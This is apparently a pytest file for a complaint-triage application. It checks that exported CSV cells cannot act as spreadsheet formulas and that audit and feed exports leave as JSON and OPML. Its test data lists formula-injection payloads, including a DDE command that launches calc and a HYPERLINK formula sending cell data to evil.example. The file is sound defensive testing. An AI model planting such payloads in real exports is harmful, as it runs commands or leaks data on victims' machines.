"""What leaves the house in a table runs as a formula in nobody's spreadsheet, and comes back as it was."""

import csv
import json
from pathlib import Path

import pytest

from classifiers import _labelled
from sahut import labels
from sahut.core import opml
from sahut.core.cells import cell, text_of
from sahut.core.model import AuditAct, AuditDraft, Role
from tests.builders import NOW
from tests.triage_api.conftest import World

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+62 812 0000 0000 lampu padam",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    '=1+1","=2+2',
    "@dinas_pu lampu di Jalan Melati padam",
)
HARMLESS = ("", "Lampu padam", "'Lampu' padam", "a=b", "1-2", "'", "''", " spasi")


@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
def test_a_cell_is_never_a_formula_and_gives_its_text_back(text: str) -> None:
    made = cell(text)
    assert not made.lstrip().startswith(("=", "+", "-", "@", "\uff1d"))
    assert not made.startswith(("\t", "\r", "\n"))
    assert text_of(made) == text
    assert (made == text) is (text in HARMLESS)


def test_the_table_of_labels_holds_no_formula_and_is_read_as_it_was_written(world: World, tmp_path: Path) -> None:
    said = [f"{text} sejak kemarin" for text in FORMULAS]
    for text in said:
        (one,) = world.flagged(1, text)
        body = {"mentions": [{"id": one}], "reason": "not_complaint"}
        assert world.program().post("/api/v1/decisions/dismiss", json=body).status_code == 201
    file = tmp_path / "labels.csv"
    counts = labels.write(file, labels.rows(world.store, world.policy))
    assert sum(counts.values()) == len(said)
    with file.open(encoding="utf-8", newline="") as lines:
        cells = [one for row in csv.reader(lines) for one in row]
    assert [one for one in cells if one.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))] == []
    rows = [row["text"] for _where, row in _labelled._read(file)]
    assert sorted(rows) == sorted(" ".join(text.split()) for text in said)


def test_the_other_exports_are_no_tables(world: World) -> None:
    """The audit log leaves as JSON lines, the list of feeds as XML: neither opens as cells."""
    with world.store.begin() as tx:
        tx.audit.add(AuditDraft(act=AuditAct.SETTING, at=NOW, name=FORMULAS[0], detail={"what": FORMULAS[1]}))
        entry = tx.audit
    del entry
    answer = world.program(Role.AUDITOR).get("/api/v1/audit")
    assert answer.headers["content-type"] == "application/json"
    assert FORMULAS[0] in json.dumps(answer.json())
    admin, _csrf = world.signed_in("admin")
    listed = admin.get("/sources/opml")
    assert listed.headers["content-type"].startswith("text/x-opml")
    assert listed.headers["content-disposition"] == 'attachment; filename="sahut-sumber.opml"'
    assert opml.read(listed.content)
